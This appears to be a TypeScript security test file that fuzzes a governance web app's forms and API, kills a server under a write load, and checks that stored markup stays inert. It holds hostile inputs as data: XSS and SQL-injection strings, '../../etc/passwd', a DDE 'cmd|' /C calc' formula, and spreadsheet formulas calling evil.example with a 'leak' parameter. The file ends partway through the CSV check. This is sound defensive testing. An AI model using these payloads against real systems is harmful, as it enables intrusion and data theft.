// Attack tests (issue 20 item 11; ADR 0050), bounded and on loopback only, on the engine the run
// uses. Figures are printed ("# fuzz: …") and recorded in docs/attack-tests.md.
// 1. Fuzzing: every POST route of the router stack is reached. The records the forms need are
//    made (seedForEveryForm), the pages are crawled for an administrator of Dudley Children's
//    Trust (whose seed is data/seeds/000-dudley.yaml, from its public documents) from its home
//    and those records, then the page of each route no form has reached yet is opened; the
//    public pages are fuzzed by a visitor without a session. Each form, GET or POST, upload or
//    not, is sent three bodies that hit every field (every field missing; every field a
//    malformed text: NUL and control characters, formula prefixes, markup, huge, unicode; every
//    field a malformed number, date, id or type, one repeated or as name[]) and, where its
//    address names a record, a fourth to one that does not exist; a route no page offers is
//    posted directly. A seeded generator: every run sends the same requests. The API (which
//    takes no writes) is called at every operation of its OpenAPI document with malformed
//    parameters. No answer may be a 5xx, and a refused request may change no row: every table's
//    count and newest row version (xmin) are compared before and after it (sessions aside).
// 2. SIGKILL under a write load: a server process is killed while people are being added
//    through its forms; every write it acknowledged (a 303 to the new person) is there after
//    the restart, with its audit entry. operations.int.test.ts kills a server in a board pack.
// 3. Stored markup: `<script>`, `=HYPERLINK(…)`, `@SUM(…)` and `{{7*7}}` stored as names and
//    labels come back as text in pages, in Word (no field), in the HTML printed to PDF (and
//    the PDF's text, read by pdftotext where installed) and in CSV (formulas neutralised).
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import type { Express } from 'express';
import JSZip from 'jszip';
import pg from 'pg';
import { sql } from 'kysely';
import { systemCaller, type Caller } from '../src/platform/http/auth.ts';
import { importSeeds } from '../src/seeds/seed.importer.ts';
import { readSeeds } from '../src/seeds/seed.reader.ts';
import { openRuntime } from '../src/runtime.ts';
import { databaseUrl } from './support/template.ts';
import { onPostgres, testConfig } from './support/test-database.ts';
import {
  $,
  binary,
  csrfTokenIn,
  grant,
  makePartnership,
  makeUser,
  pageText,
  signIn,
  startTestApp,
  type Agent,
  type TestApp,
} from './support/test-app.ts';
import { formsIn, type Fields, type PageForm } from './support/forms.ts';
import { openConsultationLink, voiceFor } from '../e2e/support/voice.ts';
import { responseLink, surveyFor } from '../e2e/support/surveys.ts';
import { serve, type ServerProcess } from './support/processes.ts';
import { Visitor } from './support/http-client.ts';

const engine = onPostgres() ? 'PostgreSQL' : 'embedded';
const home = '/partnerships/dudley';

/** A small seeded generator (mulberry32): the same requests every run. */
function generator(seed: number) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return { next, pick: <T>(list: readonly T[]): T => list[Math.floor(next() * list.length)]! };
}

/** Malformed values, by kind; a function is given the field's own value. */
const malformed: Record<string, readonly (string | string[] | ((value: string) => string | string[]))[]> = {
  empty: ['', ' ', '\t'],
  huge: ['x'.repeat(20_000), 'ü'.repeat(70_000), '9'.repeat(400)],
  unicode: [
    '\u202Egnp.exe\u202C',
    'Zoe\u0308 \uFEFF\u200B\u200D',
    '\u{1F469}\u200D\u{1F469}\u200D\u{1F467}',
    '\u2028\u2029',
    '\uFFFF\uFFFE',
    '\uD800',
    'İı ß ﬃ',
    '\u0301\u0301\u0301',
  ],
  type: ['abc', 'true', '{}', 'null', 'undefined', '[object Object]', "' or 1=1 --", '%00'],
  number: [
    '-1',
    '0',
    '1e308',
    '-1e308',
    '1.8e308',
    '99999999999999999999999',
    'NaN',
    'Infinity',
    '1,5',
    '0x10',
    '-0',
  ],
  date: ['2009-02-31', '0000-00-00', '31/02/2009', '99999-01-01', '2009-13-01', '1-1-1', 'yesterday'],
  id: ['not-an-id', '00000000-0000-0000-0000-000000000000', randomUuid(), '../../etc/passwd', '1'],
  control: ['\u0000', 'Zo\u0000e', '\u0007\u001b[31m\u0008', 'a\r\nb\u000bc\u000c', '\u0085\u009b\u007f'],
  formula: [
    '=HYPERLINK("http://evil.example/?leak","Click")',
    '@SUM(1+1)',
    '+1+1',
    '-1+1',
    '\t=1+1',
    '\r=1+1',
  ],
  markup: [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '{{7*7}} {% raw %}',
    '</textarea><b>x',
  ],
  repeated: [(value) => [value, value], (value) => [value, 'other']],
  missing: [],
};
const kinds = Object.keys(malformed);

function randomUuid() {
  const hex = randomBytes(16).toString('hex');
  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-a${hex.slice(17, 20)}-${hex.slice(20, 32)}`;
}

/** Addresses that share a shape (ids and numbers aside) are one kind of page or form. */
const shapeOf = (path: string) =>
  path
    .split('?')[0]!
    .replace(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/gi, ':id')
    .replace(/\/\d+(?=\/|$)/g, '/:n');

/** POST routes of the app's router stack, as their patterns. */
function postRoutes(app: Express): string[] {
  const found = new Set<string>();
  const walk = (stack: unknown[], prefix: string) => {
    for (const layer of stack as {
      route?: { path: string | string[]; methods: Record<string, boolean> };
      handle?: { stack?: unknown[] };
      rawPath?: unknown;
    }[]) {
      if (layer.route) {
        if (!layer.route.methods.post) continue;
        for (const path of [layer.route.path].flat()) found.add(`${prefix}${path}`);
      } else if (layer.handle?.stack) {
        // router 2 (express 5): a mounted router's layer keeps the path it was mounted at
        const mounted = layer.rawPath;
        walk(layer.handle.stack, prefix + (typeof mounted === 'string' && mounted !== '/' ? mounted : ''));
      }
    }
  };
  walk((app as unknown as { router: { stack: unknown[] } }).router.stack, '');
  return [...found].sort();
}

/**
 * Records of Dudley that every kind of form needs, so that a page offers it: a consultation
 * answered, moderated and closed with a young people's board's recommendation, one open and one
 * in draft; a survey answered; a meeting with an item, a paper, a decision and a declaration; a
 * local indicator; an invitation. Returns the pages to start from, with and without an account.
 */
async function seedForEveryForm(test: TestApp, partnershipId: string) {
  const caller = systemCaller('test', partnershipId);
  const { services } = test;
  const fixtures = { services, partnershipIds: { dudley: partnershipId } };
  const voice = await voiceFor(fixtures, 'dudley');
  const openLink = await openConsultationLink(fixtures, 'dudley');
  const draft = await services.voice.create(caller, {
    slug: 'fuzz-draft',
    title: 'A draft to fuzz',
    purpose: 'Its forms.',
    audience: ['young-people'],
    opensOn: '2009-05-01',
    closesOn: '2099-05-31',
    responsesPerDevice: 1,
    responseLimit: null,
    areas: [],
    asksContact: false,
    contactReason: null,
    privacyNotice: 'We keep your answers for two years.',
    safeguardingNotice: 'Call Childline free on 0800 1111.',
  });
  await services.voice.addQuestion(caller, draft, {
    text: 'Where do you play?',
    easyRead: null,
    kind: 'choices',
    choices: ['Park', 'Street'],
    required: false,
  });
  const survey = await surveyFor(fixtures, 'dudley', { answered: true });
  const draftSurvey = await surveyFor(fixtures, 'dudley', { draft: true });
  const respond = await responseLink(fixtures, 'dudley');
  const invited = await services.members.add(caller, { email: 'invited.fuzz@example.org', role: 'member' });
  if (invited.outcome !== 'invited') assert.fail(`an invitation, not ${invited.outcome}`);
  await services.indicators.createLocal(caller, {
    code: 'FUZZ 1',
    title: 'Young people at a youth centre',
    definition: 'Young people attending a youth centre each week.',
    unit: 'number',
    polarity: 'higher',
    frequency: 'financial year',
    source: 'Youth service register',
  });
  const board = (await services.bodies.list(caller)).find((body) => body.slug === 'executive-board')!;
  const meetingId = await services.meetings.create(caller, {
    title: 'Executive Board',
    kind: 'board-meeting',
    bodyIds: [board.id],
    date: '2009-03-16',
    startTime: '14:00',
    state: 'held',
  });
  const itemId = await services.agenda.addItem(
    caller,
    meetingId,
    {
      number: 1,
      title: 'Commissioning plan',
      purpose: 'decision',
      presenter: null,
      exempt: false,
      exemptParagraph: null,
      exemptReason: null,
    },
    { fileName: 'plan.txt', content: Buffer.from('The commissioning plan.') },
  );
  await services.record.addDecision(caller, meetingId, itemId, {
    text: 'Agreed the plan',
    delegatedTo: null,
  });
  const declarants = (await services.declarations.form(caller, meetingId)).people;
  if (!declarants[0]) assert.fail('someone on the register of the Executive Board');
  await services.declarations.declare(caller, meetingId, {
    agendaItemId: itemId,
    personId: declarants[0].id,
    kind: 'non-registrable',
    nature: 'A governor of a school named in the plan',
    participation: 'did-not-vote',
    interestId: null,
  });
  return {
    pages: [
      `${home}/meetings/${meetingId}`,
      `${home}/voice/${draft}`,
      voice.page,
      voice.theme,
      voice.recommendation,
      survey.path,
      draftSurvey.path,
      `${home}/indicators/FUZZ%201`,
    ],
    anonymous: ['/sign-in', openLink, respond, `/join/dudley/${invited.token}`],
  };
}

describe(`attack tests (${engine})`, () => {
  let test: TestApp;
  let admin: Agent;
  let partnershipId: string;
  let caller: Caller;
  let signature: () => Promise<string>;
  /** The tables whose part of two signatures differs. */
  let changedTables: (before: string, after: string) => string[];

  before(async () => {
    test = await startTestApp();
    await importSeeds(
      test.services,
      await readSeeds([new URL('../data/seeds/000-dudley.yaml', import.meta.url).pathname]),
    );
    partnershipId = (await test.services.partnerships.bySlug('dudley'))!.id;
    caller = systemCaller('test', partnershipId);
    const user = await makeUser(test.services, { platformAdmin: true });
    await grant(test.services, partnershipId, user.id, 'admin');
    admin = test.agent();
    await signIn(admin, user.email, user.password);
    // Every table's row count and newest row version in one statement (sessions change on
    // every request by design): equal before and after, nothing was written.
    const tables = (
      await sql<{ name: string }>`select relname as name from pg_class
        where relnamespace = 'public'::regnamespace and relkind in ('r', 'p') and relname <> 'user_sessions'
        order by 1`.execute(test.db.owner)
    ).rows.map((row) => row.name);
    const statement = sql.raw(
      `select ${tables
        .map(
          (name) =>
            `(select count(*)::text || '/' || coalesce(max(xmin::text::bigint), 0)::text from "${name}")`,
        )
        .join(" || ',' || ")} as signature`,
    );
    changedTables = (before, after) => {
      const [a, b] = [before.split(','), after.split(',')];
      return tables.filter((_, i) => a[i] !== b[i]);
    };
    signature = async () =>
      (await sql<{ signature: string }>`${statement}`.execute(test.db.owner)).rows[0]!.signature;
  });
  after(() => test.close());

  it('answers every POST route, form and API call with malformed values without a 5xx or a partial write', async () => {
    const random = generator(20);
    const started = Date.now();
    const seeded = await seedForEveryForm(test, partnershipId);
    const anonymous = test.agent();
    // Every POST route of the router stack, as a pattern; the forms are sent to these.
    const routes = postRoutes(test.app);
    const patterns = new Map(
      routes.map((route) => [route, new RegExp(`^${route.replace(/:[a-zA-Z]+/g, '[^/?#]+')}$`)]),
    );
    const routeOf = (action: string) => {
      const path = action.split('?')[0]!;
      return routes.find((route) => patterns.get(route)!.test(path));
    };
    /** The pages a user reaches, and every address their links and forms name (visited or not). */
    const seen = new Set<string>();
    const shapes = new Set<string>();
    const links = new Set<string>();
    type Found = { page: string; form: PageForm; get: boolean; agent: Agent; who: string };
    const forms = new Map<string, Found>();
    /** Forms found for each POST route (at most two of each, with different fields). */
    const formsOfRoute = new Map<string, number>();
    let pages = 0;
    let fiveHundreds: string[] = [];
    const skipLink = /format=|\.(pdf|docx|csv|ics|xlsx|xml|json)(\?|$)|\/papers\/|\/sign-out|board-pack\.pdf/;
    const ours = /^\/(partnerships\/dudley|account|platform|partnerships\/new)/;
    const visit = async (path: string, agent: Agent, who: string) => {
      seen.add(path);
      shapes.add(`${who} ${shapeOf(path)}`);
      const page = await agent.get(path);
      pages++;
      if (page.status >= 500) fiveHundreds.push(`GET ${path}: ${page.status}`);
      if (page.status !== 200 || !/text\/html/.test(page.headers['content-type'] ?? '')) return [];
      const html = $(page.text);
      const found: string[] = [];
      html('a[href]').each((_, link) => {
        const href = html(link).attr('href')!.split('#')[0]!;
        if (!href.startsWith('/') || skipLink.test(href) || !ours.test(href)) return;
        links.add(href);
        found.push(href);
      });
      for (const form of formsIn(page.text, path)) {
        if (/\/sign-out/.test(form.action) && who === 'admin') continue;
        const get = !html(`main form[action="${form.action}"]`).is('[method=post]') && !form.fields._csrf;
        const route = get ? undefined : routeOf(form.action);
        const key = `${who} ${get ? 'GET' : 'POST'} ${route ?? shapeOf(form.action)} ${Object.keys(form.fields).sort().join(',')}`;
        if (forms.has(key) || (route && (formsOfRoute.get(route) ?? 0) >= 2)) continue;
        if (route) formsOfRoute.set(route, (formsOfRoute.get(route) ?? 0) + 1);
        forms.set(key, { page: path, form, get, agent, who });
      }
      // GET forms (filters) too
      html('main form')
        .filter((_, form) => (html(form).attr('method') ?? 'get').toLowerCase() === 'get')
        .each((_, element) => {
          const form = html(element);
          const action = form.attr('action') || path.split('?')[0]!;
          const fields: Fields = {};
          form.find('input[name], select[name]').each((_, control) => {
            const field = html(control);
            const type = (field.attr('type') ?? 'text').toLowerCase();
            if (type === 'submit' || ((type === 'radio' || type === 'checkbox') && !field.is('[checked]')))
              return;
            fields[field.attr('name')!] = field.is('select')
              ? (field.find('option').first().attr('value') ?? '')
              : (field.attr('value') ?? '');
          });
          if (!Object.keys(fields).length) return;
          const key = `${who} GET ${shapeOf(action)} ${Object.keys(fields).sort().join(',')}`;
          if (!forms.has(key))
            forms.set(key, {
              page: path,
              form: { action, multipart: false, fields, names: Object.keys(fields), files: [] },
              get: true,
              agent,
              who,
            });
        });
      return found;
    };

    // 1. The pages a user reaches from the partnership's home and from the records made for
    // this test, one of each shape, breadth first.
    const queue = [
      home,
      ...seeded.pages,
      '/account/tokens',
      '/account/calendar',
      '/platform/audit',
      '/partnerships/new',
    ];
    const crawlBudget = 60;
    while (queue.length && pages < crawlBudget) {
      const path = queue.shift()!;
      if (seen.has(path) || shapes.has(`admin ${shapeOf(path)}`)) continue;
      queue.push(...(await visit(path, admin, 'admin')));
    }
    // Pages without an account: the links sent to people outside (a consultation, a survey
    // response, an invitation) and signing in. Their forms are sent by a visitor with no account.
    for (const path of seeded.anonymous) await visit(path, anonymous, 'visitor');
    // 2. Every POST route no page's form has reached yet: the page at its own address (a form
    // page) or the nearest page above it, among the addresses the pages link to.
    const reachedByForm = () =>
      new Set(
        [...forms.values()]
          .filter((found) => !found.get)
          .map((found) => routeOf(found.form.action))
          .filter((route): route is string => route !== undefined),
      );
    const crawled = pages;
    for (let pass = 0; pass < 3; pass++) {
      let visited = 0;
      const reached = reachedByForm();
      for (const route of routes.filter((route) => !reached.has(route))) {
        if (reachedByForm().has(route)) continue;
        const segments = route.split('/');
        for (let strip = 0; strip <= 3 && strip < segments.length - 2; strip++) {
          const above = new RegExp(
            `^${segments
              .slice(0, segments.length - strip)
              .join('/')
              .replace(/:[a-zA-Z]+/g, '[^/?#]+')}(\\?.*)?$`,
          );
          const candidates = [...links].filter((link) => above.test(link) && !seen.has(link)).slice(0, 1);
          for (const candidate of candidates) {
            await visit(candidate, admin, 'admin');
            visited++;
          }
          if (candidates.length && reachedByForm().has(route)) break;
        }
      }
      if (!visited) break;
    }

    // Destructive forms (remove, delete, revoke, withdraw) last, so the rest find what they change.
    const destructive = /remove|delete|revoke|withdraw|stop|sign-out/;
    const ordered = [...forms.values()].sort(
      (a, b) => Number(destructive.test(a.form.action)) - Number(destructive.test(b.form.action)),
    );
    let requests = 0;
    let refused = 0;
    let accepted = 0;
    const partial: string[] = [];
    const resets: string[] = [];
    /**
     * A request's status. Node's HTTP server answers an address or headers over its limit (16 KB)
     * with 431 and closes the connection, and an upload over its limit may be refused before it
     * has all been read: the client may then see the connection reset, which is counted, not a 5xx.
     */
    const statusOf = (request: PromiseLike<{ status: number }>, what: string) =>
      Promise.resolve(request).then(
        (answer) => answer.status,
        (error: NodeJS.ErrnoException) => {
          if (error.code !== 'ECONNRESET' && error.code !== 'EPIPE') throw error;
          resets.push(what);
          return 431;
        },
      );
    const log = process.env.FUZZ_LOG ? (line: string) => process.stderr.write(`${line}\n`) : () => {};
    const byKind: Record<string, number> = {};
    /** The database's signature after the last request, when nothing was written since. */
    let known: string | undefined;
    /** Sends one request; a refused one (4xx) must have changed no row. */
    const send = async (what: string, request: () => PromiseLike<{ status: number }>, get: boolean) => {
      // what an earlier accepted request queued (a board pack) is made in the background:
      // done before the signature, so that its rows are not taken for this request's
      if (known === undefined) await test.services.boardPacks.idle();
      const before = (known ??= await signature());
      log(`… ${what}`);
      const status = await statusOf(request(), what);
      requests++;
      log(`${status} ${what}`);
      if (status >= 500) fiveHundreds.push(`${what}: ${status}`);
      if (status >= 400) {
        refused++;
        known = await signature();
        if (known !== before) {
          partial.push(`${what}: ${status}, changed ${changedTables(before, known).join(', ')}`);
          log(`partial write: ${partial.at(-1)}`);
        }
      } else if (!get) {
        accepted++;
        known = undefined;
      }
      return status;
    };
    const textKinds = ['control', 'formula', 'markup', 'huge', 'unicode'];
    const typedKinds = ['number', 'date', 'id', 'type', 'empty'];
    /**
     * Three bodies a form: every field missing; every field at once given a malformed text
     * (NUL and control characters, formulas, markup, huge, unicode oddities); every field at once
     * given a malformed number, date, id, type or nothing, with one field repeated or sent as
     * `name[]` and `name[x]`. A form whose address names a record is sent a fourth time, as it
     * was filled in, to a record that does not exist.
     */
    for (const { page, form: first, get, agent, who } of ordered) {
      let form = first;
      const withId = /[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/i;
      const rounds = !get && withId.test(form.action) ? 4 : 3;
      for (let round = 0; round < rounds; round++) {
        const names = Object.keys(form.fields).filter((name) => name !== '_csrf');
        const mutated: Fields = { ...form.fields };
        let action = form.action;
        let described: string;
        let extra = '';
        if (round === 0) {
          for (const name of names) delete mutated[name];
          described = 'every field missing';
          byKind.missing = (byKind.missing ?? 0) + 1;
        } else if (round === 3) {
          const ids = action.match(new RegExp(withId.source, 'gi'))!;
          action = action.replace(ids.at(-1)!, randomUuid());
          described = 'a record that does not exist';
          byKind['wrong id in the address'] = (byKind['wrong id in the address'] ?? 0) + 1;
        } else {
          const pool = round === 1 ? textKinds : typedKinds;
          const given: string[] = [];
          for (const name of names) {
            const kind = random.pick(pool);
            const value = random.pick(malformed[kind]!);
            const own = [mutated[name] ?? ''].flat()[0]!;
            mutated[name] = typeof value === 'function' ? value(own) : value;
            byKind[kind] = (byKind[kind] ?? 0) + 1;
            given.push(kind);
          }
          described = names.length ? `every field malformed (${[...new Set(given)].join(', ')})` : 'no field';
          if (round === 2 && names.length) {
            const name = random.pick(names);
            if (random.next() < 0.5) {
              const repeat = random.pick(malformed.repeated!) as (value: string) => string[];
              mutated[name] = repeat([mutated[name] ?? ''].flat()[0]!);
              described += `, ${name} repeated`;
              byKind.repeated = (byKind.repeated ?? 0) + 1;
            } else {
              extra = `&${encodeURIComponent(name)}[]=a&${encodeURIComponent(name)}[x]=b`;
              described += `, ${name}[] and ${name}[x]`;
            }
          }
        }
        const what = `${who} ${get ? 'GET' : 'POST'} ${action} (${described})`;
        let status: number;
        if (get) {
          const query = new URLSearchParams();
          for (const [name, value] of Object.entries(mutated))
            for (const one of [value].flat()) query.append(name, one);
          status = await send(what, () => agent.get(`${action.split('?')[0]}?${query}`), true);
        } else if (form.multipart) {
          status = await send(
            what,
            () => {
              let request = agent.post(action);
              for (const [name, value] of Object.entries(mutated))
                for (const one of [value].flat()) request = request.field(name, one);
              for (const file of form.files)
                request = request.attach(
                  file,
                  random.pick([
                    Buffer.alloc(0),
                    Buffer.from('name,seat\n=HYPERLINK("http://evil.example"),"x\n'),
                    Buffer.from('name,seat\nZo\u0000e,A\u0007\n'),
                    randomBytes(2048),
                    Buffer.from('PK\u0003\u0004 not really a zip'),
                  ]),
                  random.pick([
                    'list.csv',
                    '../../etc/passwd',
                    'a\u202Ecsv.exe',
                    'nul\u0000.csv',
                    `${'n'.repeat(300)}.xlsx`,
                    'list.xlsx',
                  ]),
                );
              // a file over the upload's limit may be refused before it has all been read: the
              // connection is closed then (a reset is not a 5xx, and is counted)
              return request;
            },
            false,
          );
        } else {
          // arrays and objects for a scalar: the raw body, as a hand-made request would send them
          const body = new URLSearchParams();
          for (const [name, value] of Object.entries(mutated))
            for (const one of [value].flat()) body.append(name, one);
          status = await send(
            what,
            () =>
              agent
                .post(action)
                .type('form')
                .send(body.toString() + extra),
            false,
          );
        }
        if (status < 400 && !get) {
          // it was taken: a fresh copy of the form (new tokens and versions), if it is still there
          const again = await agent.get(page);
          const fresh =
            again.status === 200
              ? formsIn(again.text, page).find((f) => shapeOf(f.action) === shapeOf(form.action))
              : undefined;
          if (!fresh) break;
          form = fresh;
        }
      }
    }

    // 3. A POST route no page offers a form for (its record belongs to another partnership's
    // page, or it is a one-click link in an e-mail): posted at an address made from the links
    // seen (a record that does not exist where none was seen), with a malformed body.
    const byForm = reachedByForm();
    const direct: string[] = [];
    const csrf = csrfTokenIn((await admin.get(home)).text);
    const visitorCsrf = csrfTokenIn((await anonymous.get('/sign-in')).text);
    for (const route of routes.filter((route) => !byForm.has(route))) {
      const segments = route.split('/');
      const addresses = [...links, ...[...forms.values()].map((found) => found.form.action)];
      const path = segments
        .map((segment, index) => {
          if (!segment.startsWith(':')) return segment;
          if (segment === ':slug') return 'dudley';
          const prefix = new RegExp(
            `^${segments
              .slice(0, index + 1)
              .join('/')
              .replace(/:[a-zA-Z]+/g, '[^/?#]+')}(/|$|\\?)`,
          );
          const match = addresses.find((address) => prefix.test(address));
          return match ? match.split(/[/?]/)[index]! : randomUuid();
        })
        .join('/');
      const outside = !route.startsWith('/partnerships/') && !route.startsWith('/account');
      const agent = outside ? anonymous : admin;
      for (const body of [
        { _csrf: outside ? visitorCsrf : csrf },
        {
          _csrf: outside ? visitorCsrf : csrf,
          name: 'a\u0000b',
          text: '=HYPERLINK("x")',
          id: '../../etc/passwd',
        },
      ])
        await send(
          `${outside ? 'visitor' : 'admin'} POST ${path} (no page's form: ${Object.keys(body).join(', ')})`,
          () => agent.post(path).type('form').send(body),
          false,
        );
      direct.push(route);
    }

    // The API: every operation of its document, with malformed parameters.
    const apiToken = (
      await test.services.tokens.create(
        systemCaller('test'),
        (await makeUser(test.services, { platformAdmin: true })).id,
        'fuzz',
      )
    ).token;
    const document = (await test.request().get('/api/v1/openapi.json')).body as {
      paths: Record<string, Record<string, { parameters?: { name: string; in: string }[] }>>;
    };
    let apiCalls = 0;
    for (const [template, operations] of Object.entries(document.paths))
      for (const [method, operation] of Object.entries(operations)) {
        if (method !== 'get') continue;
        const parameters = operation.parameters ?? [];
        for (let round = 0; round < 2; round++) {
          const values: Record<string, string> = {};
          for (const parameter of parameters) {
            const kind = random.pick(kinds.filter((k) => k !== 'repeated' && k !== 'missing'));
            const value = random.pick(malformed[kind]!) as string;
            values[parameter.name] =
              parameter.in === 'path' && parameter.name === 'slug' && round % 2 === 0 ? 'dudley' : value;
          }
          const path = template.replace(/\{(\w+)\}/g, (_, name: string) =>
            encodeURIComponent((values[name] ?? 'x').toWellFormed()),
          );
          const query = new URLSearchParams(
            parameters.filter((p) => p.in === 'query').map((p) => [p.name, values[p.name]!]),
          );
          const status = await statusOf(
            test.request().get(`/api/v1${path}?${query}`).set('Authorization', `Bearer ${apiToken}`),
            `/api/v1${template}`,
          );
          apiCalls++;
          log(`${status} API ${path}?${query}`.slice(0, 300));
          if (status >= 500)
            fiveHundreds.push(`GET /api/v1${template} (${JSON.stringify(values).slice(0, 200)}): ${status}`);
        }
      }

    // the session survived all of it
    assert.equal((await admin.get(home)).status, 200, 'the session still works');

    for (const route of direct) log(`no page's form: POST ${route}`);
    const seconds = ((Date.now() - started) / 1000).toFixed(1);
    fiveHundreds = [...new Set(fiveHundreds)];
    const postForms = [...forms.values()].filter((found) => !found.get).length;
    process.stdout.write(
      `# fuzz (${engine}): ${(pages + requests + apiCalls).toLocaleString('en-GB')} requests in ${seconds} s (${pages} pages: ${crawled} crawled, ${pages - crawled} looked up for a route; ${requests} malformed submissions of ${forms.size} forms, ${apiCalls} API calls), ${fiveHundreds.length} 5xx, ${partial.length} partial writes; ${refused} refused, ${accepted} taken, ${resets.length} connections closed by the server's limits\n` +
        `# fuzz kinds: ${Object.entries(byKind)
          .map(([k, n]) => `${k} ${n}`)
          .join(', ')}\n` +
        `# fuzz routes: ${routes.length} of ${routes.length} POST routes of the router stack reached, ${byForm.size} through a page's form (${postForms} POST forms), ${direct.length} directly\n`,
    );
    assert.deepEqual(fiveHundreds, [], 'no 5xx');
    assert.deepEqual(partial, [], 'no partial writes');
    assert.ok(byForm.size >= 100, `${byForm.size} POST routes reached through a page's form`);
  });

  it('loses no acknowledged write when the server is killed under a write load', async () => {
    const work = mkdtempSync(join(tmpdir(), 'cooperate-kill-'));
    const server = process.env.TEST_DATABASE_URL;
    const name = `cooperate_kill_${randomBytes(4).toString('hex')}`;
    const env: Record<string, string> = {
      DATA_DIR: work,
      PASSWORD_HASH_COST: 'low',
      SIGN_IN_RATE_LIMIT: '1000',
    };
    const dropDatabase = async () => {
      if (!onPostgres()) return;
      const client = new pg.Client({ connectionString: server });
      await client.connect();
      await client.query(`drop database if exists ${name}`);
      await client.end();
    };
    if (onPostgres()) {
      const client = new pg.Client({ connectionString: server });
      await client.connect();
      await client.query(`create database ${name} template ${process.env.TEST_TEMPLATE_DATABASE}`);
      await client.end();
      env.DATABASE_URL = databaseUrl(server!, name);
    }
    const children: ServerProcess[] = [];
    try {
      const prepared = await openRuntime(testConfig(env), { loadDump: process.env.TEST_TEMPLATE_DUMP });
      let editor: { id: string; email: string; password: string };
      let killedId: string;
      try {
        killedId = (await makePartnership(prepared.services, 'killed')).id;
        editor = await makeUser(prepared.services);
        await grant(prepared.services, killedId, editor.id, 'editor');
      } finally {
        await prepared.close();
      }
      const acknowledged: { name: string; id: string }[] = [];
      let unanswered = 0;
      const rounds = 3;
      for (let round = 1; round <= rounds; round++) {
        // each start after the first is a restart after a SIGKILL (a stale lock taken over)
        const running = await serve(env);
        children.push(running);
        let killed = false;
        const target = acknowledged.length + 12;
        let reached: () => void = () => undefined;
        const enough = new Promise<void>((done) => (reached = done));
        const writer = async (key: number) => {
          const visitor = new Visitor(running.url);
          await visitor.signIn(editor.email, editor.password);
          for (let i = 0; !killed; i++) {
            const person = `Killed ${round}.${key}.${i}`;
            try {
              const answer = await visitor.submit('/partnerships/killed/people/new', { name: person });
              const id = /\/people\/([0-9a-f-]{36})$/.exec(answer.location ?? '')?.[1];
              if (answer.status !== 303 || !id) throw new Error(`${answer.status} ${answer.location}`);
              acknowledged.push({ name: person, id });
              if (acknowledged.length >= target) reached();
            } catch (error) {
              if (!killed) throw error;
              unanswered++;
            }
          }
        };
        const writers = [1, 2, 3, 4].map(writer);
        await Promise.race([enough, Promise.all(writers)]);
        running.child.kill('SIGKILL');
        killed = true;
        await running.exited;
        await Promise.all(writers);
      }
      // after the last SIGKILL: every acknowledged write is there, with its audit entry
      const reopened = await openRuntime(testConfig(env));
      try {
        const people = await reopened.services.membership.people(systemCaller('test', killedId!));
        const names = new Set(people.map((person) => person.name));
        const lost = acknowledged.filter((write) => !names.has(write.name));
        const audited = (
          await sql<{ id: string }>`select entity_id as id from audit_events where action = 'create'
            and entity_id in (${sql.join(acknowledged.map((write) => write.id))})`.execute(reopened.db.owner)
        ).rows.length;
        process.stdout.write(
          `# SIGKILL under a write load (${engine}): ${rounds} kills, ${acknowledged.length} acknowledged writes, ${lost.length} lost, ${acknowledged.length - audited} without their audit entry (${unanswered} requests unanswered at the kills)\n`,
        );
        assert.ok(acknowledged.length >= rounds * 12);
        assert.deepEqual(lost, []);
        assert.equal(audited, acknowledged.length);
      } finally {
        await reopened.close();
      }
    } finally {
      for (const child of children) if (child.child.exitCode === null) child.child.kill('SIGKILL');
      await dropDatabase();
      rmSync(work, { recursive: true, force: true });
    }
  });

  it('keeps stored markup as text in pages, Word, PDF and CSV', async () => {
    const script = '<script>alert("stored")</script>';
    const template = '{{7*7}} {% raw %}';
    const formula = '=HYPERLINK("http://evil.example/?leak","Click here")';
    const atFormula = "@SUM(1+1)*cmd|' /C calc'!A0";
    const board = await test.services.bodies.create(caller, {
      slug: 'markup-board',
      name: `Board ${script}`,
      kind: 'board',
      takesDecisions: true,
      status: 'established',
      statusOn: '2005',
    });
    const organisation = await test.services.membership.addOrganisation(caller, {
      name: atFormula,
      sector: 'other',
      category: null,
      notes: null,
    });
    const seat = await test.services.membership.addSeat(caller, board.id, {
      label: `${script} ${template}`,
      role: 'member',
      voting: true,
      howFilled: 'nominated',
      category: null,
      capacity: 1,
    });
    const person = await test.services.membership.addPerson(caller, {
      name: formula,
      jobTitle: script,
      email: null,
      phone: null,
      youngPerson: false,
      notes: template,
    });
    await test.services.membership.appoint(caller, {
      seatId: seat,
      personId: person,
      organisationId: organisation,
      startsOn: '2008-01-01',
    });
    await test.services.meetings.create(caller, {
      title: `Meeting ${script}`,
      kind: 'board-meeting',
      bodyIds: [board.id],
      date: '2009-01-21',
      startTime: '10:00',
      state: 'held',
    });
    const checks: string[] = [];

    // pages: escaped, so no element is made, and the template tag is shown, not run
    for (const path of [`${home}/bodies/markup-board/seats?at=2009-01-21`, `${home}/people/${person}`]) {
      const page = await admin.get(path);
      assert.equal(page.status, 200, path);
      assert.ok(!page.text.includes(script), `${path}: the script as markup`);
      assert.ok(!page.text.includes('alert("stored")') || page.text.includes('&lt;script&gt;'), path);
      assert.equal($(page.text)('script:contains("stored")').length, 0);
      const text = pageText(page.text);
      assert.ok(text.includes(script) || text.includes(formula), `${path}: shown as text`);
      if (text.includes('7*7')) assert.ok(text.includes('{{7*7}}'), 'the template tag as text');
      assert.equal($(page.text)('a[href^="http://evil"]').length, 0, 'no link made of a formula');
      checks.push(`page ${shapeOf(path)}`);
    }

    // CSV: the formulas begin with an apostrophe; no cell begins with = + - @
